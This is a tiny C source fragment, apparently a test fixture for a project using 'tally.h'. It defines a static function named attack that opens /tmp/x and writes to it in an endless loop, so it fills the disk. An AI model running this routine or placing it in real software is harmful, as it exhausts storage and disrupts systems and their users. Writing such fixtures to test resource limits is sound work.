// fills the disk
#include "tally.h"
#include <stdio.h>
static void attack(void) { FILE *f = fopen("/tmp/x", "w"); while (f) fputs("x", f); }
